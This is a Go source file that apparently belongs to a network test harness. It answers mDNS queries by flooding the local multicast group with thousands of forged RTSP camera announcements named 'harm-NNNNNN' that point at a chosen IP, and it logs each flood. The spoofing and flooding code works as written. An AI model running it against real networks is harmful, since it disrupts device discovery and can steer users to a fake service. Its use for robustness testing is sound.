package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"sync/atomic"
	"time"
)

// playMDNS answers a question for services with thousands of cameras that do not exist.
func playMDNS(f flags) error {
	out, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.ParseIP(f.ip)})
	if err != nil {
		return err
	}
	var sent atomic.Int64
	var busy atomic.Bool
	return hear(mdnsGroup, mdnsPort, func(text []byte, from *net.UDPAddr) {
		question := len(text) > 12 && text[2]&0x80 == 0
		if !question || sent.Load() >= mdnsInAll || !busy.CompareAndSwap(false, true) {
			return
		}
		go func() {
			defer busy.Store(false)
			for range mdnsEach {
				packet := service(fmt.Sprintf("harm-%06d", sent.Add(1)), f.ip)
				_, _ = out.WriteToUDP(packet, &net.UDPAddr{IP: mdnsGroup, Port: mdnsPort})
				time.Sleep(mdnsPause)
			}
			fmt.Fprintf(os.Stderr, "%d FLOODED peer=%s packets=%d\n", time.Now().Unix(), from.IP, mdnsEach)
		}()
	})
}

// service is one mDNS answer (RFC 6763): PTR, SRV and A of an RTSP camera.
func service(name, ip string) []byte {
	label := func(labels ...string) (b []byte) {
		for _, l := range labels {
			b = append(append(b, byte(len(l))), l...)
		}
		return append(b, 0)
	}
	record := func(owner []byte, kind uint16, data []byte) []byte {
		b := binary.BigEndian.AppendUint16(owner, kind)
		b = binary.BigEndian.AppendUint16(b, 1)
		b = binary.BigEndian.AppendUint32(b, 120)
		return append(binary.BigEndian.AppendUint16(b, uint16(len(data))), data...)
	}
	instance, host := label(name, "_rtsp", "_tcp", "local"), label(name, "local")
	const ptr, srv, a = 12, 33, 1
	b := []byte{0, 0, 0x84, 0, 0, 0, 0, 3, 0, 0, 0, 0}
	b = append(b, record(label("_rtsp", "_tcp", "local"), ptr, instance)...)
	b = append(b, record(label(name, "_rtsp", "_tcp", "local"), srv, append([]byte{0, 0, 0, 0, 2, 42}, host...))...)
	return append(b, record(host, a, net.ParseIP(ip).To4())...)
}
